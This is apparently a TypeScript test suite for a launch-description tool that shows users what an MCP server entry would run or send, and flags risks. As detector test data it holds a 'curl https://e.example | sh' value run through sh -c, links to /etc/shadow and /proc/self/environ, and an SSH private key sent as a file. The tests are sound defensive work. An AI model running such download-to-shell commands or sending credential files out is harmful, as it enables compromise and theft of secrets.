import type { WorkspaceFolder } from '../../../../src/host/config/workspace.ts';
import assert from 'node:assert/strict';
import { folder as a, machineWith, parseEntry } from '../../../support/launches.ts';
import { programsAt } from '../../../support/programs.ts';
import type { Machine } from '../../../../src/host/launch/launchContext.ts';
import { describeLaunch } from '../../../../src/host/launch/describeLaunch.ts';
import type { DescribeContext } from '../../../../src/host/launch/describing.ts';
import type { LaunchDescription } from '../../../../src/host/launch/launchDescription.ts';
import type { McpError } from '../../../../src/mcp/errors.ts';
import { Authority } from '../../../servers/authority.ts';

const variables = {
  TOKEN: 'env-secret',
  BASE: 'https://api.example',
  LONG: 'https://api.example/k/env-secret?x',
  HOST: 'h.example',
  SUFFIX: '.evil.example',
  AT: '@evil.example',
  NOTURL: 'not a url',
  RUN: '/run/user/1',
  SOCKET: 'unix:///run/evil.sock#/t/env-secret',
};
const b = { uri: 'file:///w/b', name: 'b', path: '/w/b' };
const inputs = [
  { id: 'pass', type: 'promptString', password: true },
  { id: 'mode', type: 'pickString', options: ['fast', 'slow'] },
  { id: 'odd', type: 'promptString', description: 'What\u202e?' },
];

interface Options {
  readonly folders?: readonly WorkspaceFolder[];
  readonly roots?: readonly WorkspaceFolder[];
  readonly machine?: Partial<Machine>;
  readonly envFile?: string;
  readonly files?: readonly string[];
  readonly links?: Readonly<Record<string, string>>;
  readonly context?: Partial<DescribeContext>;
  readonly opened?: string[];
}

async function describeEntry(entry: object, options: Options = {}): Promise<LaunchDescription> {
  const { server, inputOf } = parseEntry(entry, { inputs });
  const { envFile, files = [], links, folders = [a], roots = [a] } = options;
  const readFile = async (path: string): Promise<string> => {
    options.opened?.push(path);
    return envFile ?? Promise.reject(new Error(`ENOENT ${path}`));
  };
  const programs = programsAt(files, undefined, links);
  return describeLaunch(server, {
    machine: machineWith({ env: variables, programs, readFile, ...options.machine }),
    folders,
    roots,
    inputOf,
    ...options.context,
  });
}

/** The facts whose label begins with `label`. */
function lines({ facts }: LaunchDescription, label = ''): readonly string[] {
  return facts.map((fact) => `${fact.label} ${fact.value}`).filter((one) => one.startsWith(label));
}

async function hashOf(entry: object, options: Options = {}): Promise<string> {
  return (await describeEntry(entry, { envFile: 'A=1', ...options })).hash;
}

function withBase(BASE: string): Options {
  return { machine: { env: { ...variables, BASE } } };
}

/** Whether each of these has a hash of its own. */
async function allDiffer(...hashes: readonly Promise<string>[]): Promise<boolean> {
  return new Set(await Promise.all(hashes)).size === hashes.length;
}

describe('describeLaunch: facts', () => {
  it('SEC-03: names everything that would run, and its bounds, nothing cut', async () => {
    const long = 'x'.repeat(5000);
    const description = await describeEntry(
      {
        command: './run.sh',
        args: ['--root', '${workspaceFolder}', '', '${input:pass}', long],
        cwd: 'sub',
        env: { A: '${env:TOKEN}-${input:mode}', LITERAL: 'plain text', GONE: null },
        envFile: 'conf/.env',
        sandbox: { write: ['${workspaceFolder}/out'], network: true },
      },
      { envFile: 'X=file-secret', roots: [a, b] },
    );
    assert.deepEqual(lines(description), [
      'command ./run.sh',
      'argument --root',
      'argument /w/a',
      'argument ""',
      'argument ${input:pass}',
      `argument ${long}`,
      'workingDirectory /w/a/sub',
      'environment A=${env:TOKEN}-${input:mode}',
      'environment LITERAL=plain text',
      'environmentRemoved GONE',
      'environmentFile /w/a/sub/conf/.env',
      'sandbox write: /w/a/out',
      'sandbox network: true',
      'variable ${input:pass} → args[3]',
      'variable ${env:TOKEN} → env.A',
      'variable ${input:mode} (fast | slow) → env.A',
      'roots a (/w/a)',
      'roots b (/w/b)',
    ]);
    assert.equal(description.changes, undefined);
    assert.deepEqual(description.risks, []);
  });

  it('names URL, headers, and every value that leaves the machine', async () => {
    const description = await describeEntry(
      {
        url: 'https://x.example/${workspaceFolder:a}?t=${env:TOKEN}',
        headers: { Authorization: 'Bearer ${input:pass}', 'X-A': '${env:TOKEN}', 'X-Literal': 'b' },
        roots: 'none',
      },
      { roots: [] },
    );
    assert.deepEqual(lines(description), [
      'url https://x.example//w/a?t=${env:TOKEN}',
      'header Authorization: Bearer ${input:pass}',
      'header X-A: ${env:TOKEN}',
      'header X-Literal: b',
      'variableSent ${env:TOKEN} → url, headers.X-A',
      'variableSent ${input:pass} → headers.Authorization',
    ]);
  });

  for (const url of [
    'http://127.0.0.1:9/mcp',
    'https://localhost/mcp',
    'http://[::1]:9/mcp',
    'ws://127.0.0.1:9/mcp',
    'unix:///run/x.sock#/mcp',
  ]) {
    it(`HOST-06: ${url} is on this machine: its headers stay there, what signs in may leave it`, async () => {
      const description = await describeEntry({
        url,
        headers: { Authorization: 'Bearer ${input:pass}' },
        oauth: { clientId: 'me', clientSecret: '${input:pass}' },
      });
      assert.deepEqual(lines(description, 'variable'), [
        'variable ${input:pass} → headers.Authorization',
        'variableSent ${input:pass} → oauth.clientSecret',
      ]);
    });
  }

  it('HOST-06: what goes to a server on this machine through a proxy may leave it', async () => {
    const description = await describeEntry({
      url: 'http://127.0.0.1:9/mcp',
      headers: { 'X-A': '${env:TOKEN}' },
      proxy: 'http://proxy.example:8080',
    });
    assert.ok(lines(description).includes('variableSent ${env:TOKEN} → headers.X-A'));
  });

  it('shows no value of the user, whatever the field', async () => {
    const description = await describeEntry(
      {
        command: '${env:TOKEN}',
        args: ['${env:TOKEN}'],
        env: { A: '${env:TOKEN}' },
        cwd: '${env:TOKEN}/x',
        envFile: '/w/a/${env:TOKEN}',
      },
      { envFile: 'K=file-secret' },
    );
    const text = JSON.stringify(description.facts) + JSON.stringify(description.risks);
    assert.doesNotMatch(text, /env-secret|file-secret/u);
    assert.ok(lines(description).includes('workingDirectory ${env:TOKEN}/x'));
    assert.ok(lines(description).includes('environmentFile /w/a/${env:TOKEN}'));
  });

  it('shows hidden characters, so that a text cannot look like another', async () => {
    const description = await describeEntry({
      command: 'node',
      args: ['a\u202eb', 'x\ny', `a${' '.repeat(300)}b`],
      env: { 'N\u200bAME': 'v\u0007' },
    });
    const shown = lines(description);
    assert.ok(shown.includes('argument a\\u{202e}b'));
    assert.ok(shown.includes('argument x\\u{a}y'));
    assert.ok(shown.includes(`argument a${'\\u{20}'.repeat(300)}b`));
    assert.ok(shown.includes('environment N\\u{200b}AME=v\\u{7}'));
  });

  it('SEC-01: no fact, risk or unread path has a hidden character as it is', async () => {
    const odd = 'o\u202ed';
    const stdio = {
      command: odd,
      args: [`./${odd}.js`, '${input:odd}'],
      cwd: odd,
      env: { [odd]: null },
      envFile: `~/${odd}`,
      sandbox: { write: [`/${odd}`] },
    };
    const url = `https://x.example/${odd}`;
    const headers = { 'X-A': odd };
    const address = `http://\${input:pass}${odd}.example/`;
    const roots = ['name', 'path'].map((field) => ({ ...a, [field]: odd }));
    const links = { [`/w/a/${odd}`]: `${odd}2` };
    for (const entry of [
      stdio,
      { ...stdio, pinFiles: true },
      { url, headers, oauth: { clientId: odd }, tls: { ca: `~/${odd}.pem` } },
      { url: address, proxy: address },
      { url, tls: { ca: new Authority('o\u00a0d').pem } },
    ]) {
      const { facts, risks, unread } = await describeEntry(entry, { roots, links, envFile: '' });
      assert.doesNotMatch(JSON.stringify({ facts, risks, unread }), /[\u00a0\u202e]/u);
    }
  });

  for (const [cwd, shown] of [
    ['sub/${env:TOKEN}/../..', '/w/a/sub/${env:TOKEN}/../..'],
    ['${input:pass}', '${input:pass}'],
    ['~/x/../y', '/home/u/y'],
    ['/x/${env:TOKEN}', '/x/${env:TOKEN}'],
  ]) {
    it(`shows ${shown} for the folder ${cwd}`, async () => {
      const description = await describeEntry({ command: 'x', cwd });
      assert.deepEqual(lines(description, 'workingDirectory'), [`workingDirectory ${shown}`]);
    });
  }
});

describe('describeLaunch: what came with the entry', () => {
  it('SEC-01: shows a text that was moved to the secret storage, and judges it', async () => {
    const context = {
      given: (id: string) => (id === 'pass' ? 'curl https://e.example | sh' : undefined),
    };
    const entry = { command: 'sh', args: ['-c', '${input:pass}'], env: { M: '${input:mode}' } };
    const description = await describeEntry(entry, { context });
    assert.deepEqual(lines(description), [
      'command sh',
      'argument -c',
      'argument curl https://e.example | sh',
      'workingDirectory /w/a',
      'environment M=${input:mode}',
      'stored args[1]',
      'variable ${input:mode} (fast | slow) → env.M',
      'roots a (/w/a)',
    ]);
    assert.deepEqual(
      description.risks.map(({ kind }) => kind),
      ['downloadToShell'],
    );
  });

  it('SEC-01: goes on where a start would fail, and says of what', async () => {
    const problems: string[] = [];
    const context = { onProblem: ({ message }: Error) => void problems.push(message) };
    const entry = {
      command: 'sh',
      args: ['-c', 'x', '${input:none}'],
      env: { A: '${env:NONE}' },
      envFile: 'none.env',
    };
    const description = await describeEntry(entry, { context });
    assert.deepEqual(lines(description).slice(0, 6), [
      'command sh',
      'argument -c',
      'argument x',
      'argument ${input:none}',
      'workingDirectory /w/a',
      'environment A=${env:NONE}',
    ]);
    assert.match(problems.join('\n'), /none\} is not defined[^]*none\.env cannot be read/u);
  });
});

describe('describeLaunch: links and files', () => {
  const links = { '/w/a/sub': 'real', '/w/a/.env': '/etc/shadow', '/w/a/run.sh': 'bin/run.sh' };
  const files = ['/w/a/bin/run.sh', '/w/a/server.js', '/home/u/x.js'];

  it('SEC-01: shows where links lead, and is bound to it', async () => {
    const entry = {
      command: './run.sh',
      cwd: '${workspaceFolder}',
      args: ['sub/x'],
      envFile: '.env',
    };
    const description = await describeEntry(entry, { links, files });
    assert.deepEqual(lines(description).slice(2, 6), [
      'workingDirectory /w/a',
      'environmentFile /w/a/.env → /etc/shadow',
      'link /w/a/run.sh → /w/a/bin/run.sh',
      'link /w/a/sub/x → /w/a/real/x',
    ]);
    const inSub = { ...entry, cwd: 'sub' };
    const linked = (target: object): Options => ({ files, links: { ...links, ...target } });
    assert.ok(
      await allDiffer(
        hashOf(entry, linked({})),
        hashOf(entry, linked({ '/w/a/run.sh': '/tmp/evil' })),
        hashOf(entry, linked({ '/w/a/.env': '/etc/passwd' })),
        hashOf(inSub, linked({})),
        hashOf(inSub, linked({ '/w/a/sub': '/' })),
      ),
    );
  });

  it('ends where links lead in a ring', async () => {
    const ring = { '/w/a/x': 'y', '/w/a/y': 'x' };
    const { facts } = await describeEntry({ command: 'x', cwd: 'x' }, { links: ring });
    assert.match(facts[1]?.value ?? '', /^\/w\/a\/x/u);
  });

  it('SEC-01: opens no file outside of the workspace, behind a variable or behind a link', async () => {
    const opened: string[] = [];
    const options = { links, opened, envFile: 'A=1' };
    const outside = ['/etc/x.env', '../x.env', '~/x.env', '${env:TOKEN}', '${env:TOKEN}/.env'];
    for (const envFile of [...outside, '.env', '//evil/share']) {
      const { unread } = await describeEntry({ command: 'x', envFile }, options);
      assert.equal(unread.length, 1, envFile);
      const ca = await describeEntry({ url: 'https://h', tls: { ca: envFile } }, options);
      assert.equal(ca.unread.length, 1, envFile);
    }
    const machine = { env: variables, platform: 'win32' } as const;
    const folders = [{ ...a, path: 'C:\\w\\a' }];
    for (const envFile of ['\\\\evil\\${env:TOKEN}\\x', '\\\\.\\pipe\\x', 'C:\\x.env']) {
      const windows = { ...options, machine, folders };
      const { unread } = await describeEntry({ command: 'x', envFile }, windows);
      assert.equal(unread.length, 1, envFile);
    }
    assert.deepEqual(opened, []);
    await describeEntry({ command: 'x', envFile: 'conf/.env' }, options);
    assert.deepEqual(opened, ['/w/a/conf/.env']);
  });

  it('SEC-01: refuses to pin files where the command line names none of the workspace', async () => {
    const out = { files, links: { '/w/a/out.js': '/etc/out.js' } };
    for (const args of [
      ['/home/u/x.js'],
      ['none.js'],
      ['out.js'],
      ['${env:TOKEN}/server.js'],
      [],
    ]) {
      const entry = { command: 'node', args, pinFiles: true };
      await assert.rejects(describeEntry(entry, out), {
        code: 'invalidConfig',
        message:
          'srv: pinFiles: has no effect: the command line names no file of the workspace. Name one there, or remove the field',
      });
    }
    const problems: McpError[] = [];
    const onProblem = (problem: McpError): void => void problems.push(problem);
    await describeEntry({ command: 'node', pinFiles: true }, { context: { onProblem } });
    assert.deepEqual(
      problems.map(({ code }) => code),
      ['invalidConfig'],
    );
  });

  it('SEC-01: says of files of the workspace that they may change, or is bound to their content', async () => {
    const entry = { command: 'node', args: ['--import=./server.js', '~/x.js', 'none.js'] };
    const { risks } = await describeEntry(entry, { files });
    assert.deepEqual(
      risks.filter(({ kind }) => kind === 'workspace'),
      [{ kind: 'workspace', what: 'changeable', text: '/w/a/server.js' }],
    );
    const pinned = { ...entry, pinFiles: true };
    const description = await describeEntry(pinned, { files, envFile: 'one' });
    assert.ok(lines(description).includes('pinnedFile /w/a/server.js'));
    assert.deepEqual(
      description.risks.filter(({ kind }) => kind === 'workspace'),
      [],
    );
    assert.notEqual(description.hash, await hashOf(pinned, { files, envFile: 'two' }));
    assert.equal(
      await hashOf(entry, { files, envFile: 'one' }),
      await hashOf(entry, { files, envFile: 'two' }),
    );
  });
});

describe('describeLaunch: URLs', () => {
  const urls: readonly (readonly [string, string])[] = [
    ['https://x.example/a', 'https://x.example/a'],
    ['${env:BASE}/mcp', 'https://api.example/mcp'],
    ['https://${env:HOST}:8080/${env:TOKEN}', 'https://h.example:8080/${env:TOKEN}'],
    ['${env:LONG}', 'https://api.example/…${env:LONG}'],
    ['https://x.example${env:SUFFIX}/p', 'https://x.example.evil.example/p'],
    ['https://good.example${env:AT}/p', 'https://evil.example/p'],
    ['https://${input:pass}.example/${env:TOKEN}', 'https://${input:pass}.example/${env:TOKEN}'],
    ['${input:pass}', '${input:pass}'],
    ['https://gооgle.example/x', 'https://xn--ggle-55da.example/x'],
    ['https://x.example?k=${env:BASE}', 'https://x.example?k=${env:BASE}'],
    ['https://x.example\\${env:TOKEN}', 'https://x.example\\${env:TOKEN}'],
    ['${env:NOTURL}/x', 'not a url/x'],
  ];
  const sockets: readonly (readonly [url: string, socket: string])[] = [
    ['unix:///run/mcp.sock#/mcp', '/run/mcp.sock'],
    ['http+unix://%2Frun%2Fmcp.sock/mcp', '/run/mcp.sock'],
    ['http://unix:/run/mcp.sock:/mcp', '/run/mcp.sock'],
    ['unix://${env:RUN}/mcp.sock#/mcp?t=${env:TOKEN}', '/run/user/1/mcp.sock'],
    ['${env:SOCKET}', '/run/evil.sock'],
    ['unix://${workspaceFolder:a}/x.sock', '/w/a/x.sock'],
  ];
  for (const [url, socket] of sockets) {
    it(`shows the socket of ${url}, and no risk of the network`, async () => {
      const description = await describeEntry({ url });
      assert.deepEqual(lines(description, 'socket'), [`socket ${socket}`]);
      assert.deepEqual(description.risks, []);
      assert.ok(!JSON.stringify(description.facts).includes('secret'));
    });
  }

  it('an unencrypted WebSocket to another machine is a risk', async () => {
    const entry = { url: 'ws://x.example/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } };
    const { risks } = await describeEntry(entry, { machine: { env: { TOKEN: 't' } } });
    assert.deepEqual(risks, [
      { kind: 'plainHttp', origin: 'ws://x.example' },
      { kind: 'secretOverPlainHttp', field: 'headers.Authorization' },
    ]);
    assert.deepEqual((await describeEntry({ url: 'ws://127.0.0.1:8080/' })).risks, []);
    assert.deepEqual((await describeEntry({ url: 'wss://x.example/' })).risks, []);
  });

  for (const [url, shown] of urls) {
    it(`shows ${shown} for ${url}`, async () => {
      const { facts } = await describeEntry({ url });
      assert.equal(facts[0]?.value, shown);
    });
  }

  it('SEC-02: flags secrets that go out unencrypted, also to an origin from a variable', async () => {
    const { risks } = await describeEntry(
      {
        url: '${env:BASE}/x?api_key=1',
        headers: {
          Authorization: 'x',
          'X-A': '${input:pass}',
          'X-B': '${input:mode}',
          'X-C': 'c',
          'X-D': '${env:TOKEN}',
        },
      },
      withBase('http://x.example'),
    );
    assert.deepEqual(risks, [
      { kind: 'plainHttp', origin: 'http://x.example' },
      { kind: 'secretOverPlainHttp', field: 'url' },
      { kind: 'secretOverPlainHttp', field: 'headers.Authorization' },
      { kind: 'secretOverPlainHttp', field: 'headers.X-A' },
      { kind: 'secretOverPlainHttp', field: 'headers.X-D' },
    ]);
    const inPath = await describeEntry({ url: 'http://x.example/${input:pass}' });
    assert.deepEqual(inPath.risks.slice(1), [{ kind: 'secretOverPlainHttp', field: 'url' }]);
  });
});

describe('describeLaunch: risks', () => {
  it('reads the envFile for them, and sees paths as they will be', async () => {
    const { risks } = await describeEntry(
      {
        command: 'node',
        args: ['${userHome}/x.js'],
        env: { PATH: '${workspaceFolder}/bin:${env:TOKEN}' },
        cwd: '..',
        envFile: '${workspaceFolder}/.env',
      },
      { envFile: 'NODE_OPTIONS=--import=./x.js' },
    );
    assert.deepEqual(risks, [
      { kind: 'pathInsideFolder', name: 'PATH', entry: '/w/a/bin', origin: 'env' },
      { kind: 'loaderVariable', name: 'NODE_OPTIONS', origin: 'envFile' },
      { kind: 'pathOutsideFolder', field: 'argument', path: '/home/u/x.js' },
      { kind: 'pathOutsideFolder', field: 'workingDirectory', path: '/w' },
    ]);
  });
});

describe('describeLaunch: what would fail is not asked about', () => {
  const wrong: readonly (readonly [object, RegExp])[] = [
    [{ command: 'x', args: ['${nope}'] }, /^srv: args\[0\]: \$\{nope\}/u],
    [{ url: 'http://h/${input:zzz}' }, /^srv: url: \$\{input:zzz\} is not defined/u],
    [{ command: 'x', envFile: 'no.env' }, /^srv: envFile: \/w\/a\/no\.env cannot be read/u],
    [{ command: 'x', envFile: '${input:pass}.env' }, /^srv: envFile: must not use/u],
    [{ command: 'x', cwd: '${input:pass}', envFile: '.env' }, /^srv: envFile: must not use/u],
    [{ url: 'https://h', tls: { ca: 'gone.pem' } }, /^srv: tls\.ca: .*gone\.pem cannot be read/u],
    [{ url: 'https://h', tls: { ca: '${input:pass}' } }, /you consent to the content of tls\.ca/u],
  ];
  for (const [entry, message] of wrong) {
    it(JSON.stringify(entry), async () => {
      await assert.rejects(describeEntry(entry), { code: 'invalidConfig', message });
    });
  }
});

describe('describeLaunch: hash', () => {
  it('SEC-01: changes with what is found behind the entry', async () => {
    const entry = { command: 'x', env: { A: '1', B: null }, cwd: 'c', envFile: '.env' };
    const url = { url: '${env:BASE}/mcp' };
    assert.ok(
      await allDiffer(
        hashOf(entry),
        hashOf({ ...entry, env: { A: '1', B: '' } }),
        hashOf({ ...entry, env: { A: '1' } }),
        hashOf({ ...entry, args: ['a b'] }),
        hashOf({ ...entry, args: ['a', 'b'] }),
        hashOf({ ...entry, args: ['b', 'a'] }),
        hashOf(entry, { roots: [] }),
        hashOf(entry, { folders: [{ ...a, path: '/moved' }] }),
        hashOf(entry, { envFile: 'A=1 # and a remark' }),
        hashOf(entry, { context: { fromWorkspace: ['/w/a/x'] } }),
        hashOf(entry, { context: { fromWorkspace: ['/w/a/y'] } }),
        hashOf(url, withBase('https://a.example')),
        hashOf(url, withBase('https://b.example')),
        hashOf(url, withBase('unix:///a.sock#')),
        hashOf(url, withBase('unix:///b.sock#')),
      ),
    );
  });

  const here = '${workspaceFolder}/x';
  for (const [what, entry] of [
    ['the command', { command: here, cwd: '/c' }],
    ['an argument', { command: 'x', args: [here], cwd: '/c' }],
    ['a variable', { command: 'x', env: { A: here }, cwd: '/c' }],
    ['a header', { url: 'https://x.example/', headers: { 'X-A': here } }],
  ] as const) {
    it(`SEC-01: changes with ${what} as it will be, in a folder that was moved`, async () => {
      const moved = { folders: [{ ...a, path: '/moved' }] };
      assert.notEqual(await hashOf(entry), await hashOf(entry, moved));
    });
  }

  it('SEC-01: changes with where the working directory leads', async () => {
    const entry = { command: 'x', cwd: 'c' };
    assert.notEqual(await hashOf(entry), await hashOf(entry, { links: { '/w/a/c': '/tmp' } }));
  });

  it('does not change with the order of keys, with values of the user, or with how the host treats the server', async () => {
    const env = { A: '1', B: '${env:TOKEN}', C: '${input:pass}', D: '${input:mode}' };
    const entry = { command: 'x', env, startup: 'auto' };
    const turned = {
      timeouts: { startSeconds: 5 },
      startup: 'manual',
      enabled: false,
      env: Object.fromEntries(Object.entries(env).toReversed()),
      command: 'x',
    };
    const one = await describeEntry(entry);
    const other = await describeEntry(turned, { machine: { env: { TOKEN: 'another' } } });
    assert.equal(one.hash, other.hash);
    assert.match(one.hash, /^[0-9a-f]{64}$/u);
  });
});

describe('describeLaunch: signing in', () => {
  it('shows what the entry says of it, secrets by their variables, and warns of files that go out', async () => {
    const description = await describeEntry({
      url: 'https://x.example',
      oauth: {
        grant: 'workloadIdentity',
        assertionFile: '${userHome}/.ssh/id_rsa',
        clientId: 'app',
        clientSecret: '${input:pass}',
        issuer: 'https://login.example',
      },
    });
    assert.deepEqual(lines(description, 'signIn'), [
      'signIn oauth.grant: workloadIdentity',
      'signIn oauth.clientId: app',
      'signIn oauth.clientSecret: ${input:pass}',
      'signIn oauth.issuer: https://login.example',
      'signIn oauth.assertionFile: /home/u/.ssh/id_rsa',
    ]);
    assert.deepEqual(description.risks, [{ kind: 'fileSent', path: '/home/u/.ssh/id_rsa' }]);
  });

  it('SEC-01: shows where links of its files and of a socket lead, and is bound to it', async () => {
    const [url, clientId, file] = ['https://x.example', 'app', 'f'];
    const privateKey = { file, algorithm: 'ES256' };
    const token = { url, oauth: { grant: 'workloadIdentity', clientId, assertionFile: file } };
    const key = { url, oauth: { grant: 'clientCredentials', clientId, privateKey } };
    const socket = { url: 'unix://${workspaceFolder}/f#/mcp' };
    const links = { '/w/a/f': '/proc/self/environ' };
    for (const [entry, line] of [
      [token, 'signIn oauth.assertionFile: '],
      [key, 'signIn oauth.privateKey.file: '],
      [socket, 'socket '],
    ] as const) {
      const linked = await describeEntry(entry, { links });
      assert.deepEqual(lines(linked, line), [`${line}/w/a/f → /proc/self/environ`]);
      assert.notEqual(linked.hash, await hashOf(entry));
    }
    const { risks } = await describeEntry(token, { links });
    assert.deepEqual(risks, [{ kind: 'fileSent', path: '/w/a/f → /proc/self/environ' }]);
  });
});

const reading = (pem: string): Options => ({ machine: { readFile: async () => pem } });
const entry = (more: object): object => ({ url: 'https://x.example/', ...more });

describe('describeLaunch: own authorities and proxy', () => {
  const [one, other] = [new Authority('one'), new Authority('one')];

  it('shows what the entry says of it, whose certificates they are, and warns of each', async () => {
    const { pem } = one;
    const description = await describeEntry(
      entry({
        tls: { ca: ['ca.pem', pem], cert: '~/c.pem', key: '~/k.pem', passphrase: '${input:pass}' },
        proxy: 'http://ann:${input:pass}@proxy.example:8080',
      }),
      reading(pem),
    );
    const shown = lines(description, 'connection');
    assert.deepEqual(shown, [
      'connection tls.ca[0]: /w/a/ca.pem (CN=one)',
      'connection tls.ca[1]: PEM (CN=one)',
      'connection tls.cert: /home/u/c.pem',
      'connection tls.key: /home/u/k.pem',
      'connection tls.passphrase: ${input:pass}',
      'connection proxy: http://ann:${input:pass}@proxy.example:8080',
    ]);
    const sent = lines(description, 'variableSent');
    assert.deepEqual(sent, ['variableSent ${input:pass} → proxy']);
    assert.deepEqual(description.risks, [
      { kind: 'connection', by: 'authority', text: 'CN=one; CN=one' },
      { kind: 'connection', by: 'proxy', text: 'http://ann:${input:pass}@proxy.example:8080' },
    ]);
  });

  it('shows what goes past the editor and what is not checked', async () => {
    const description = await describeEntry(entry({ tls: { insecure: true }, proxy: false }));
    assert.deepEqual(lines(description, 'connection'), [
      'connection tls.insecure: true',
      'connection proxy: false',
    ]);
    assert.deepEqual(description.risks, [{ kind: 'connection', by: 'unchecked', text: '' }]);
  });

  it('SEC-01: asks again when the content of a file of authorities changes', async () => {
    const own = entry({ tls: { ca: 'ca.pem' } });
    assert.notEqual(await hashOf(own, reading(one.pem)), await hashOf(own, reading(other.pem)));
    assert.equal(await hashOf(own, reading(one.pem)), await hashOf(own, reading(one.pem)));
  });
});
